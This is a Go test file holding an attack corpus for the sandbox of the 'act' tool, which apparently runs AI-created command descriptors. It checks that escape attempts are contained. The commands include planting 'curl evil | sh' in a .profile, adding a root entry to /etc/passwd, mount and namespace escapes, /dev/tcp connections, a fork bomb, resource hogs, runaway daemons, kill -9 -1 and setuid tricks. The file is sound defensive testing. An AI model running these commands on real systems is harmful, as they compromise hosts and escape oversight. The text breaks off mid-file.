package plan

// The attack corpus (issue 5 part 7): COMMAND_EXECUTION descriptors whose
// command tries to get out of the sandbox, each run through Build as act
// plan runs it. For every case the test checks the outcome (the rule that
// rejects the plan, or a plan whose changes all lie in the scope) and that
// the real tree is byte for byte unchanged: the scope, a sibling "outside"
// directory and a HOME-like directory, type, mode, content, mtime, ctime,
// inode and link count included. After every case no process of the run is
// left on the host.
//
// The corpus runs as whoever runs the tests and, when that is root, again
// as nobody (TestAttackOrdinaryUser re-executes the test binary under
// setpriv). A case may expect another outcome for each identity.
//
// The static net of descriptors.Check (forbidden.host-access,
// forbidden.background-execution) catches some of these commands before
// act plan runs anything; each case states what it reports, and the test
// runs the command anyway: the sandbox must hold on its own.
//
// The tree lives under /var/tmp, not TMPDIR: the sandbox mounts a private
// /tmp, which would hide an outside directory under /tmp and make writes
// to it fail for the wrong reason.

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/act-project/act/descriptors"
	"github.com/act-project/act/internal/problem"
	"github.com/act-project/act/policy"
	"github.com/act-project/act/sandbox"
	"github.com/act-project/act/sandbox/isolate"
)

const (
	// attackChildEnv marks the child that TestAttackOrdinaryUser starts;
	// its value is the base directory the parent made for it.
	attackChildEnv = "_ACT_TEST_ATTACK_BASE"
	// attackOtherEnv names, in the child, the directory holding another
	// user's files, made by the root parent.
	attackOtherEnv = "_ACT_TEST_ATTACK_OTHER"
	// attackOtherUID owns the "other user" files.
	attackOtherUID = 4242
)

// An attackCase is one command that tries to escape.
type attackCase struct {
	name string
	// script is run as sh -c script. Its environment has S (the scope),
	// OUT (the sibling outside directory), H (the HOME-like directory),
	// and what setup adds.
	script string
	// want is the outcome: "planned" or the rule that rejects the plan;
	// wantUser, if set, is the outcome when run as an ordinary user.
	want, wantUser string
	// msg, if set, must match the rejecting problem's message.
	msg, msgUser string
	// static are the rules descriptors.Check reports for the command.
	static []string
	// res overrides the default resources (YAML flow mapping).
	res string
	// create and modify are declared effects, relative to the scope;
	// changes, if set, are the plan's changes ("kind rel-path").
	create, modify, changes []string
	// needs names a requirement; the case is skipped without it.
	needs string
	// setup prepares the world before the snapshot and returns extra
	// environment for the command; check runs after Build.
	setup func(t *testing.T, w *attackWorld) map[string]string
	check func(t *testing.T, w *attackWorld, p *Plan)
	// loopback runs the case under a policy with sandbox.loopback on
	// (IPv4/IPv6 sockets on the sandbox's own loopback).
	loopback bool
}

// buildHang is how long a case's Build may take before it is said to
// hang: a liveness bound, minutes past the longest cap a case sets (60 s),
// not a speed one.
const buildHang = 3 * time.Minute

// attackResources are a case's caps unless it sets its own. The wall
// clock's is a minute: a case the wall clock is not meant to stop must
// not be stopped by it on a loaded machine (its outcome names the cap
// that did).
const attackResources = "{max_cpu_ms: 5000, max_memory_mb: 256, max_disk_mb: 8, max_duration_ms: 60000}"

// attackWorld is one case's world.
type attackWorld struct {
	root, s, out, home, stateDir string
	other                        string // another user's directory, or ""
	tag                          string
}

var attackCases = []attackCase{
	// Writing outside the scope.
	{
		name:   "write-absolute",
		script: `echo pwned > "$OUT/new" || echo pwned >> "$OUT/notes"`,
		want:   "op.command-failed", msg: "Read-only file system",
	},
	{
		name:   "write-home",
		script: `echo 'curl evil | sh' >> "$H/.profile"`,
		// As root, the sandbox's own identity may not write root's
		// directory either.
		want: "op.command-failed", msg: "Read-only file system|Permission denied",
	},
	{
		name:   "write-dotdot",
		script: `cd "$S/sub" && echo pwned > ../../outside/new`,
		want:   "op.command-failed", msg: "Read-only file system",
	},
	{
		name:   "write-planted-symlink",
		script: `echo pwned >> esc/notes || echo pwned > escabs/new`,
		want:   "op.command-failed", msg: "Read-only file system",
		setup: func(t *testing.T, w *attackWorld) map[string]string {
			mustDo(t, os.Symlink("../outside", filepath.Join(w.s, "esc")))
			mustDo(t, os.Symlink(w.out, filepath.Join(w.s, "escabs")))
			return nil
		},
	},
	{
		name:   "write-made-symlink",
		script: `ln -s "$OUT" l && echo pwned > l/new`,
		want:   "op.command-failed", msg: "Read-only file system",
	},
	{
		// The layer copies the file up: the outside inode keeps its
		// content, mtime, ctime and link count.
		name:   "write-planted-hardlink",
		script: `echo pwned >> hl`,
		want:   "planned", modify: []string{"hl"}, changes: []string{"modify hl"},
		setup: func(t *testing.T, w *attackWorld) map[string]string {
			mustDo(t, os.Link(filepath.Join(w.out, "notes"), filepath.Join(w.s, "hl")))
			return nil
		},
	},
	{
		name:   "write-made-hardlink",
		script: `ln "$OUT/notes" hl && echo pwned >> hl`,
		want:   "op.command-failed", msg: "Invalid cross-device link|Read-only file system",
	},
	{
		name:   "write-proc-self-root",
		script: `echo pwned > "/proc/self/root$OUT/new"`,
		want:   "op.command-failed", msg: "Read-only file system",
	},
	{
		name:   "write-proc-1-root",
		script: `echo pwned > "/proc/1/root$OUT/new" || echo pwned > "/proc/1/cwd/../outside/new"`,
		want:   "op.command-failed", msg: "Permission denied|Read-only file system",
	},
	{
		// (The redaction of output takes "passwd: Read-only" for a secret.)
		name:   "write-etc",
		script: `echo 'evil::0:0::/:/bin/sh' >> /etc/passwd`,
		want:   "op.command-failed", msg: "cannot create /etc/passwd: .*(file system|denied)",
	},

	// Mounts and namespaces.
	{
		name:   "mount-bind",
		script: `mount --bind "$S" "$OUT" && echo pwned > "$OUT/new"`,
		want:   "op.command-failed", msg: "(?i)permission denied|not permitted|must be superuser",
		static: []string{"forbidden.host-access"},
	},
	{
		// The same, out of the static net's sight.
		name:   "mount-bind-hidden",
		script: `m=mount; "$m" --bind /tmp "$OUT" && echo pwned > "$OUT/new"`,
		want:   "op.command-failed", msg: "(?i)permission denied|not permitted|must be superuser",
	},
	{
		name:   "mount-tmpfs",
		script: `m=mount; "$m" -t tmpfs none "$OUT" && echo pwned > "$OUT/new"`,
		want:   "op.command-failed", msg: "(?i)permission denied|not permitted|must be superuser",
	},
	{
		name:   "mount-remount-rw",
		script: `m=mount; "$m" -o remount,rw / && echo pwned > "$OUT/new"`,
		want:   "op.command-failed", msg: "(?i)permission denied|not permitted|must be superuser",
	},
	{
		name:   "umount-scope",
		script: `umount -l "$S" && echo pwned > "$S/new"`,
		want:   "op.command-failed", msg: "(?i)permission denied|not permitted|must be superuser",
		static: []string{"forbidden.host-access"},
	},
	{
		name:   "unshare-user-mount",
		script: `unshare -Urm sh -c 'mount -t tmpfs none "$OUT" && echo pwned > "$OUT/new"'`,
		want:   "op.command-failed", msg: "unshare failed",
	},
	{
		name:   "unshare-mount",
		script: `unshare -m sh -c 'mount --bind "$S" "$OUT" && echo pwned > "$OUT/new"'`,
		want:   "op.command-failed", msg: "unshare failed",
	},
	{
		name:   "chroot",
		script: `chroot / sh -c 'echo pwned > "$OUT/new"'`,
		want:   "op.command-failed", msg: "Operation not permitted",
		static: []string{"forbidden.host-access"},
	},
	{
		name:   "cgroup-escape",
		script: `echo $$ > /sys/fs/cgroup/pids/cgroup.procs || echo $$ > /sys/fs/cgroup/cgroup.procs`,
		want:   "op.command-failed", msg: "Read-only file system|Permission denied|No such file",
	},

	// The network. Without it, IPv4 and IPv6 sockets are refused; with
	// the policy's sandbox.loopback they exist in the sandbox's own
	// network namespace, whose loopback is not the host's.
	{
		name:   "net-inet-refused",
		script: `exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/$PORT && echo hello >&3'`,
		want:   "op.command-failed", msg: "socket: Permission denied",
		setup: holdTCP,
		check: noTCPConnection,
	},
	{
		name:   "net-elsewhere-refused",
		script: `exec bash -c 'exec 3<>/dev/tcp/10.255.255.1/80'`,
		want:   "op.command-failed", msg: "socket: Permission denied",
	},
	{
		name:   "net-loopback",
		script: `exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/$PORT && echo hello >&3'`,
		want:   "op.command-failed", msg: "Connection refused",
		setup:    holdTCP,
		check:    noTCPConnection,
		loopback: true,
	},
	{
		name:   "net-elsewhere",
		script: `exec bash -c 'exec 3<>/dev/tcp/10.255.255.1/80'`,
		want:   "op.command-failed", msg: "Network is unreachable",
		loopback: true,
	},
	{
		name:   "net-abstract-unix",
		script: `python3 -c 'import os, socket; s = socket.socket(socket.AF_UNIX); s.connect("\0" + os.environ["ABSTRACT"]); s.send(b"hello")'`,
		want:   "op.command-failed", msg: "PermissionError: \\[Errno 13\\]",
		needs: "python3",
		setup: holdAbstract,
		check: noAbstractConnection,
	},
	{
		// A Unix socket in the file system is reached by path, not through
		// the network namespace, and connect(2) needs no write access to
		// the mount.
		name:   "net-unix-socket-file",
		script: `python3 -c 'import os, socket; s = socket.socket(socket.AF_UNIX); s.connect(os.environ["SOCK"]); s.send(b"hello")'`,
		// A seccomp filter refuses socket(AF_UNIX) in the sandbox.
		want: "op.command-failed", msg: "PermissionError: \\[Errno 13\\]",
		needs: "python3",
		setup: holdUnixFile,
		check: noUnixFileConnection,
	},

	// Resources.
	{
		name:   "fork-bomb",
		script: `b() { b | b; }; b`,
		// A bomb that neither the process count nor the memory stops
		// forks on both CPUs until the wall clock does; the cap is short,
		// as what is tested is that one of them stops it.
		res: "{max_cpu_ms: 5000, max_memory_mb: 256, max_disk_mb: 8, max_duration_ms: 400}",
		// Whichever cap the bomb reaches first stops it: the process
		// count, the wall clock, or (a thousand shells) the memory cgroup.
		want: "op.cap-exceeded", msg: "wall clock|processes|memory",
	},
	{
		name:   "memory-hog",
		script: `python3 -c 'x = bytearray(512 << 20); print(len(x))'`,
		res:    "{max_cpu_ms: 5000, max_memory_mb: 64, max_disk_mb: 8, max_duration_ms: 60000}",
		needs:  "python3",
		// The memory cgroup kills it (the ordinary user's is delegated).
		want: "op.cap-exceeded", msg: "memory cap of 64 MiB",
	},
	{
		name:   "disk-one-file",
		script: `head -c 3000000 /dev/zero > big`,
		res:    "{max_cpu_ms: 5000, max_memory_mb: 256, max_disk_mb: 1, max_duration_ms: 60000}",
		create: []string{"big"},
		want:   "op.cap-exceeded", msg: "disk cap of 1 MiB hit \\(a tmpfs of 1 MiB, full",
	},
	{
		name:   "disk-many-files",
		script: `for i in 1 2 3 4; do head -c 900000 /dev/zero > f$i || exit 1; done`,
		res:    "{max_cpu_ms: 5000, max_memory_mb: 256, max_disk_mb: 1, max_duration_ms: 60000}",
		create: []string{"f1", "f2", "f3", "f4"},
		want:   "op.cap-exceeded", msg: "disk cap of 1 MiB hit \\(a tmpfs of 1 MiB, full",
	},
	{
		// Small files without end: the layers' tmpfs fills (ENOSPC) long
		// before the wall clock.
		name:   "disk-endless",
		script: `i=0; while :; do i=$((i+1)); head -c 200000 /dev/zero > g$i || exit 1; done`,
		res:    "{max_cpu_ms: 60000, max_memory_mb: 256, max_disk_mb: 2, max_duration_ms: 60000}",
		create: []string{"g*"},
		want:   "op.cap-exceeded", msg: "disk cap of 2 MiB hit \\(a tmpfs of 2 MiB, full",
	},
	{
		name:   "disk-tmp",
		script: `for i in 1 2 3 4; do head -c 900000 /dev/zero > /tmp/f$i || exit 1; done`,
		res:    "{max_cpu_ms: 5000, max_memory_mb: 256, max_disk_mb: 1, max_duration_ms: 60000}",
		// /tmp is a directory of the layers' tmpfs: it counts against the cap.
		want: "op.cap-exceeded", msg: "disk cap of 1 MiB hit \\(a tmpfs of 1 MiB, full",
	},
	{
		// /dev/shm is a directory of the layers' tmpfs too, not RAM that
		// neither the memory nor the disk cap sees.
		name:   "disk-dev-shm",
		script: `for i in 1 2 3 4 5 6 7 8; do head -c 900000 /dev/zero > /dev/shm/f$i || exit 1; done`,
		res:    "{max_cpu_ms: 5000, max_memory_mb: 64, max_disk_mb: 1, max_duration_ms: 60000}",
		want:   "op.cap-exceeded", msg: "disk cap of 1 MiB hit \\(a tmpfs of 1 MiB, full",
	},
	{
		// The same, past the memory cap: shm pages belong to no process,
		// but the memory cgroup counts them.
		name:   "memory-dev-shm",
		script: `i=0; while [ $i -lt 24 ]; do i=$((i+1)); head -c 900000 /dev/zero > /dev/shm/f$i || exit 1; done`,
		res:    "{max_cpu_ms: 5000, max_memory_mb: 8, max_disk_mb: 64, max_duration_ms: 60000}",
		want:   "op.cap-exceeded", msg: "memory cap of 8 MiB",
	},
	{
		// /dev/shm shares the disk cap with /tmp and the layers.
		name:   "disk-dev-shm",
		script: `i=0; while [ $i -lt 24 ]; do i=$((i+1)); head -c 900000 /dev/zero > /dev/shm/f$i || exit 1; done`,
		res:    "{max_cpu_ms: 5000, max_memory_mb: 256, max_disk_mb: 1, max_duration_ms: 60000}",
		want:   "op.cap-exceeded", msg: "disk cap of 1 MiB hit \\(a tmpfs of 1 MiB, full",
	},
	{
		name:   "cpu-spinner",
		script: `while :; do :; done`,
		res:    "{max_cpu_ms: 300, max_memory_mb: 256, max_disk_mb: 8, max_duration_ms: 60000}",
		want:   "op.cap-exceeded", msg: "cpu cap of 300 ms",
	},
	{
		name:   "sleeper",
		script: `sleep 30`,
		res:    "{max_cpu_ms: 5000, max_memory_mb: 256, max_disk_mb: 8, max_duration_ms: 400}",
		want:   "op.cap-exceeded", msg: "wall clock cap of 400 ms",
	},
	{
		// A daemon that double-forks and leaves its session, then writes a
		// marker every 50 ms; the main process exits at once.
		name: "daemon",
		script: `python3 -c '
import os, sys, time
if os.fork():
    time.sleep(0.3)
    sys.exit(0)
os.setsid()
if os.fork():
    os._exit(0)
while True:
    with open(os.environ["S"] + "/marker", "a") as f:
        f.write("x")
    time.sleep(0.05)
'`,
		needs:  "python3",
		want:   "planned",
		create: []string{"marker"},
		check:  markerStops,
	},
	{
		// The same daemon, writing through one descriptor it opened
		// before it left its session: a descriptor of a layer file that
		// outlived the dry run would change the file after the review
		// (docs/sandbox-promotion.md, "Layer files are copied, not
		// moved"). Every process is gone, with its descriptors, before the
		// layer is copied out.
		name: "daemon-held-descriptor",
		script: `python3 -c '
import os, sys, time
f = open(os.environ["S"] + "/marker", "a", buffering=1)
f.write("x")
if os.fork():
    time.sleep(0.3)
    sys.exit(0)
os.setsid()
if os.fork():
    os._exit(0)
while True:
    f.write("x")
    time.sleep(0.05)
'`,
		needs:  "python3",
		want:   "planned",
		create: []string{"marker"},
		check:  markerStops,
	},

	// Devices, processes and privilege.
	{
		name:   "dev-write",
		script: `echo pwned > /dev/sda || echo pwned > /dev/x`,
		want:   "op.command-failed", msg: "Read-only file system",
	},
	{
		name:   "mknod",
		script: `mknod "$S/disk" b 8 0 || mknod /dev/x c 1 3`,
		want:   "op.command-failed", msg: "Operation not permitted|Read-only file system",
	},
	{
		name:   "kill-all",
		script: `kill -9 -1; kill -9 "$HELD"`,
		want:   "op.command-failed", msg: "No such process",
		setup: holdProcess,
		check: heldAlive,
	},
	{
		name:   "ptrace-init",
		script: `strace -qq -e trace=none -p 1`,
		want:   "op.command-failed", msg: "Operation not permitted",
		needs: "strace",
	},
	{
		name:     "read-shadow",
		script:   `head -c 1 /etc/shadow > /dev/null`,
		want:     "planned", // root owns it: no capability is needed
		wantUser: "op.command-failed", msgUser: "Permission denied",
	},
	{
		name:   "read-other-user",
		script: `cat "$OTHER/file0600"`,
		want:   "op.command-failed", msg: "Permission denied",
		needs: "other",
	},
	{
		// A setuid copy of bash owned by the other user: no_new_privs and
		// nosuid (and the unmapped owner) keep the euid.
		name:   "setuid",
		script: `grep -q '^NoNewPrivs:[[:space:]]*1$' /proc/self/status || { echo no_new_privs is off >&2; exit 9; }; "$OTHER/suid-bash" -p -c 'cat "$OTHER/file0600"'`,
		want:   "op.command-failed", msg: "Permission denied",
		needs: "other",
	},
	{
		// The sandbox's root is the host's root (uid 0 maps to 0): without
		// capabilities, uid 0 still owns the host's sysctls and
		// /proc/sysrq-trigger in a fresh /proc, so none of them may open
		// for writing, as root or not. The files are only opened, never
		// written.
		name: "proc-host-knobs",
		script: `for f in /proc/sysrq-trigger /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/vm/drop_caches; do
	if (exec 3>>"$f") 2>/dev/null; then echo "opened $f for writing" >&2; exit 0; fi
done
echo "no host knob opens for writing" >&2; exit 1`,
		want: "op.command-failed", msg: "no host knob opens for writing",
	},
}

// TestAttack runs the corpus as whoever runs the tests.
func TestAttack(t *testing.T) {
	t.Parallel()
	if err := isolate.Available(); err != nil {
		t.Skipf("no isolation here: %v", err)
	}
	if len(attackCases) < 25 {
		t.Fatalf("the corpus has %d cases, want at least 25", len(attackCases))
	}
	base := attackBase(t)
	other := attackOther(t, base)
	checkTagDetector(t)
	pol, err := policy.Default("")
	if err != nil {
		t.Fatal(err)
	}
	pol.AllowedRoots = append(pol.AllowedRoots, base)
	who := identity()
	// Each case in a sandbox started for it (cold) and in one started
	// ahead of its spec, as act plan and act mcp start theirs (warm: its
	// mounts that depend on no spec made before the spec came), and
	// there in cgroups an earlier case used, as act mcp pools them. The
	// cases of a mode run at once, each in its own world, as act mcp runs
	// plans.
	for _, mode := range []string{"cold", "warm"} {
		t.Run(mode, func(t *testing.T) {
			PoolSandboxCgroups(mode == "warm")
			defer PoolSandboxCgroups(false)
			mustDo(t, os.MkdirAll(filepath.Join(base, mode), 0o755))
			for i, c := range attackCases {
				t.Run(c.name, func(t *testing.T) {
					t.Parallel()
					runAttack(t, c, who, filepath.Join(base, mode, strconv.Itoa(i)), other, pol, mode == "warm")
				})
			}
		})
	}
}

// TestAttackOrdinaryUser runs TestAttack again as nobody, in a child
// process under setpriv, on a tree nobody can write.
func TestAttackOrdinaryUser(t *testing.T) {
	t.Parallel()
	if os.Getenv(attackChildEnv) != "" {
		t.Skip("in the child")
	}
	dir := nobodyDir(t)
	if err := isolate.Available(); err != nil {
		t.Skipf("no isolation here: %v", err)
	}
	// The child's tree: visible in its sandbox (not under /tmp), its own.
	base := attackBase(t)
	mustDo(t, os.Chmod(base, 0o777))
	other := attackOther(t, base)
	runAsNobody(t, dir, "TestAttack", attackChildEnv+"="+base, attackOtherEnv+"="+other)
}

// attackBase is the directory that holds every case's tree: in the child,
// the one the parent made; else a new one under /var/tmp.
func attackBase(t *testing.T) string {
	if b := os.Getenv(attackChildEnv); b != "" {
		return b
	}
	dir, err := os.MkdirTemp("/var/tmp", "act-attack-")
	if err != nil {
		t.Skipf("needs a directory outside TMPDIR that the sandbox shows (TMPDIR is hidden by its private /tmp): %v", err)
	}
	// Open to others, as a project's directory is: the sandbox's own
	// identity (act runs as root) sees a directory closed to it as empty.
	mustDo(t, os.Chmod(dir, 0o755))
	t.Cleanup(func() {
		makeRemovable(dir)
		if err := os.RemoveAll(dir); err != nil {
			t.Error(err)
		}
	})
	return dir
}

// attackOther makes another user's directory below base when root: a 0600
// file and a setuid copy of bash, both owned by attackOtherUID, in a
// directory that only root and nobody's group can enter. In the child it
// is the parent's; otherwise "" (no such case runs).
func attackOther(t *testing.T, base string) string {
	if os.Getenv(attackChildEnv) != "" {
		return os.Getenv(attackOtherEnv)
	}
	if os.Geteuid() != 0 {
		return ""
	}
	dir := filepath.Join(base, "other")
	mustDo(t, os.Mkdir(dir, 0o750))
	mustDo(t, os.Chown(dir, 0, 65534))
	secret := filepath.Join(dir, "file0600")
	mustDo(t, os.WriteFile(secret, []byte("the other user's secret\n"), 0o600))
	mustDo(t, os.Chown(secret, attackOtherUID, attackOtherUID))
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Fatal(err)
	}
	suid := filepath.Join(dir, "suid-bash")
	mustDo(t, sandbox.CopyTree(bash, suid))
	mustDo(t, os.Chown(suid, attackOtherUID, attackOtherUID))
	mustDo(t, os.Chmod(suid, 0o755|fs.ModeSetuid))
	return dir
}

// runAttack runs one case in a fresh world below dir.
func runAttack(t *testing.T, c attackCase, who, dir, other string, pol *policy.Policy, warm bool) {
	if c.loopback {
		lp := *pol
		lp.Sandbox.Loopback = true
		pol = &lp
	}
	switch c.needs {
	case "":
	case "other":
		if other == "" {
			t.Skip("needs another user's files, which only root can make")
		}
	default:
		if _, err := exec.LookPath(c.needs); err != nil {
			t.Skipf("%s is not installed", c.needs)
		}
	}
	root := filepath.Join(dir, "tree")
	w := &attackWorld{
		root: root, s: filepath.Join(root, "s"), out: filepath.Join(root, "outside"),
		home: filepath.Join(root, "home"), other: other,
		// The case's index (dir's name) too: two cases share a name, and
		// the cases of a mode run at once.
		tag: fmt.Sprintf("act-attack-%d-%s-%s", os.Getpid(), filepath.Base(dir), c.name),
	}
	mustDo(t, os.Mkdir(dir, 0o755))
	mustDo(t, os.Mkdir(root, 0o755))
	mxBuild(t, root, map[string]mxEntry{
		"s":                mxDir("0755"),
		"s/keep.txt":       mxFile("keep\n", "0644"),
		"s/sub":            mxDir("0755"),
		"s/sub/f":          mxFile("f\n", "0600"),
		"outside":          mxDir("0755"),
		"outside/notes":    mxFile("notes\n", "0644"),
		"outside/private":  mxFile("private\n", "0600"),
		"home":             mxDir("0700"),
		"home/.profile":    mxFile("# profile\n", "0644"),
		"home/.ssh":        mxDir("0700"),
		"home/.ssh/id_key": mxFile("not a key\n", "0600"),
	})
	stateDir := filepath.Join(dir, "state")
	mustDo(t, os.Mkdir(stateDir, 0o700))
	w.stateDir = stateDir
	t.Cleanup(func() { makeRemovable(dir) })

	env := map[string]string{"PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "S": w.s, "OUT": w.out, "H": w.home, "OTHER": other, "ACT_ATTACK_TAG": w.tag, "LC_ALL": "C", "STATE": stateDir}
	if c.setup != nil {
		for k, v := range c.setup(t, w) {
			env[k] = v
		}
	}
	before := mxSnapshot(t, root)
	var otherBefore map[string]attackStat
	if other != "" {
		otherBefore = statTree(t, other)
	}

	d, static := attackDescriptor(t, w, c, env, stateDir)
	if diff := cmp.Diff(c.static, static); diff != "" {
		t.Errorf("descriptors.Check rules (-want +got):\n%s", diff)
	}
	dec := pol.Decide(d, buildNow)
	if len(dec.Blocked) > 0 {
		t.Fatalf("the policy blocks the test descriptor: %v", dec.Blocked)
	}
	var w0 *Warm
	if warm {
		w0 = PrestartSandbox()
		defer w0.Close()
	}
	// Build runs aside so that a case that hangs fails as hung; how
	// long one takes is no part of what it proves (its outcome names the
	// cap that stopped it).
	type built struct {
		p   *Plan
		err error
	}
	done := make(chan built, 1)
	go func() {
		p, err := Build(context.Background(), d, Options{
			Ahead:    Ahead{Warm: w0},
			StateDir: stateDir, Policy: pol, Decision: dec, File: "d.yaml", Homes: []string{w.home},
			Now:   func() time.Time { return buildNow },
			NewID: func() string { return buildID },
			Host: Host{
				FreeBytes:        func(string) (uint64, error) { return 1 << 40, nil },
				NetworkAvailable: func() (bool, error) { return false, nil },
				LastInput:        func() (time.Time, bool) { return time.Time{}, false },
			},
		})
		done <- built{p, err}
	}()
	var p *Plan
	var err error
	select {
	case b := <-done:
		p, err = b.p, b.err
	case <-time.After(buildHang):
		t.Fatalf("Build hung: no outcome after %v", buildHang)
	}

	// Whatever the outcome: nothing of the run is left, and the real tree
	// is untouched.
	if procs := taggedProcesses(w.tag); len(procs) > 0 {
		t.Errorf("processes of the run outlived it: %v", procs)
	}
	after := mxSnapshot(t, root)
	if diff := cmp.Diff(before, after); diff != "" {
		t.Errorf("the real tree changed (-before +after):\n%s", diff)
	}
	if other != "" {
		if diff := cmp.Diff(otherBefore, statTree(t, other)); diff != "" {
			t.Errorf("the other user's directory changed (-before +after):\n%s", diff)
		}
	}
	if c.check != nil {
		c.check(t, w, p)
	}

	want, msg := c.want, c.msg
	if who == "user" && c.wantUser != "" {
		want, msg = c.wantUser, c.msgUser
	}
	got, gotMsg := attackOutcome(t, w, p, err)
	problemText := fmt.Sprintf("outcome %s: %s", got, gotMsg)
	switch {
	case got != want:
		t.Fatalf("%s, want %s", problemText, want)
	case msg != "" && !regexp.MustCompile(msg).MatchString(gotMsg):
		t.Errorf("%s, want a message matching %q", problemText, msg)
	}
	if got == "planned" && c.changes != nil {
		var lines []string
		for _, ch := range p.Changes {
			rel, _ := filepath.Rel(w.s, ch.Path)
			lines = append(lines, string(ch.Kind)+" "+rel)
		}
		if diff := cmp.Diff(c.changes, lines); diff != "" {
			t.Errorf("changes (-want +got):\n%s", diff)
		}
	}
	if got != "planned" {
		if _, err := Load(stateDir, buildID); !errors.Is(err, ErrNotFound) {
			t.Errorf("Load() of a refused plan = %v, want ErrNotFound", err)
		}
	}
	ents, _ := os.ReadDir(filepath.Join(stateDir, "plans"))
	for _, ent := range ents {
		if strings.HasPrefix(ent.Name(), ".tmp-") {
			t.Errorf("Build left plans/%s behind", ent.Name())
		}
	}
}

// attackOutcome is "planned" (every change in the scope) or the rule of the
// first rejecting problem, with its message.
func attackOutcome(t *testing.T, w *attackWorld, p *Plan, err error) (string, string) {
	t.Helper()
	if err != nil {
		var probs problem.List
		if !errors.As(err, &probs) || len(probs) == 0 {
			return "error", err.Error()
		}
		var msgs []string
		for _, pr := range probs {
			msgs = append(msgs, pr.Rule+": "+pr.Message)
		}
		return probs[0].Rule, strings.Join(msgs, "; ")
	}
	for _, ch := range p.Changes {
		if ch.Path != w.s && !strings.HasPrefix(ch.Path, w.s+"/") {
			t.Errorf("the plan changes %s, outside the scope %s", ch.Path, w.s)
		}
	}
	var out []string
	for _, c := range p.Commands {
		out = append(out, fmt.Sprintf("exit %d %s", c.ExitCode, strings.TrimSpace(c.Stderr)))
	}
	return "planned", strings.Join(out, "; ")
}

// js is v in JSON, which is also YAML: for strings, lists and maps of
// them, which always encode.
func js(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// attackDescriptor builds the case's descriptor as act validate would, and
// returns the rules descriptors.Check reports (the static net).
func attackDescriptor(t *testing.T, w *attackWorld, c attackCase, env map[string]string, stateDir string) (*descriptors.Descriptor, []string) {
	t.Helper()
	abs := func(rel []string) []string {
		out := []string{}
		for _, r := range rel {
			out = append(out, filepath.Join(w.s, r))
		}
		return out
	}
	text := `descriptor_version: "1.0"
action_id: 9b2f4c1e-7a3d-4e8b-9c0f-1d2e3f4a5b6c
created_at: "2026-11-22T00:00:00Z"
created_by: ai
intent_summary: Try to escape the sandbox.
risk_level: LOW
action_type: COMMAND_EXECUTION
scope:
  filesystem: {paths: ` + js([]string{w.s}) + `, recursive: true}
  network: {required: false}
  ui: {required: false}
resources: ` + orDefault(c.res, attackResources) + `
sandbox: {required: true, sandbox_type: container, allow_network: false, max_runs: 1}
rollback: {supported: true, rollback_type: filesystem_snapshot, rollback_scope: declared_effects_only}
confirmation: {required: false, reason: "", cooldown_on_repeat: false}
audit: {log: true, log_level: SUMMARY, retain_days: 30}
preconditions: {paths_exist: [], network_available: false, user_idle: false}
effects:
  filesystem: {create: ` + js(abs(c.create)) + `, modify: ` + js(abs(c.modify)) + `, delete: []}
  network: false
  system_state_change: false
operation:
  argv: ` + js([]string{"sh", "-c", c.script, w.tag}) + `
  workdir: ` + js(w.s) + `
  env: ` + js(env) + `
`
	d, doc, probs := descriptors.Load("d.yaml", []byte(text))
	if probs != nil {
		t.Fatalf("the test descriptor does not load:\n%v\n%s", probs, text)
	}
	var rules []string
	for _, p := range descriptors.Check(d, doc, descriptors.CheckOptions{Now: buildNow, StateDir: stateDir}) {
		if !strings.HasPrefix(p.Rule, "forbidden.") {
			t.Fatalf("the test descriptor is invalid: %v\n%s", p, text)
		}
		rules = append(rules, p.Rule)
	}
	return d, rules
}

// taggedProcesses lists the host processes whose command line or
// environment carries tag.
func taggedProcesses(tag string) []string {
	ents, _ := os.ReadDir("/proc")
	var out []string
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		for _, f := range []string{"cmdline", "environ"} {
			b, err := os.ReadFile(filepath.Join("/proc", e.Name(), f))
			if err == nil && strings.Contains(string(b), tag) {
				cmdline, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
				out = append(out, e.Name()+" "+strings.ReplaceAll(string(cmdline), "\x00", " "))
				break
			}
		}
	}
	return out
}

// An attackStat is what proves an entry untouched without reading it.
type attackStat struct {
	Mode                 fs.FileMode
	Size                 int64
	Ino, Nlink, UID, GID uint64
	MtimeNs, CtimeNs     int64
}

// statTree describes dir's entries (one level) by Lstat alone.
func statTree(t *testing.T, dir string) map[string]attackStat {
	t.Helper()
	out := map[string]attackStat{}
	ents, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range append([]string{"."}, func() []string {
		var n []string
		for _, e := range ents {
			n = append(n, e.Name())
		}
		return n
	}()...) {
		fi, err := os.Lstat(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		st := fi.Sys().(*syscall.Stat_t)
		out[name] = attackStat{
			Mode: fi.Mode(), Size: fi.Size(), Ino: st.Ino, Nlink: uint64(st.Nlink),
			UID: uint64(st.Uid), GID: uint64(st.Gid), MtimeNs: st.Mtim.Nano(), CtimeNs: st.Ctim.Nano(),
		}
	}
	return out
}

func mustDo(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// holdTCP listens on a loopback port for the case; PORT names it.
func holdTCP(t *testing.T, w *attackWorld) map[string]string {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	attackListeners.Store(w.tag, l)
	return map[string]string{"PORT": strconv.Itoa(l.Addr().(*net.TCPAddr).Port)}
}

// holdAbstract listens on an abstract Unix socket; ABSTRACT names it.
func holdAbstract(t *testing.T, w *attackWorld) map[string]string {
	name := w.tag
	l, err := net.Listen("unix", "@"+name)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	attackListeners.Store(w.tag, l)
	return map[string]string{"ABSTRACT": name}
}

// holdUnixFile listens on a Unix socket in the outside directory; SOCK
// names it.
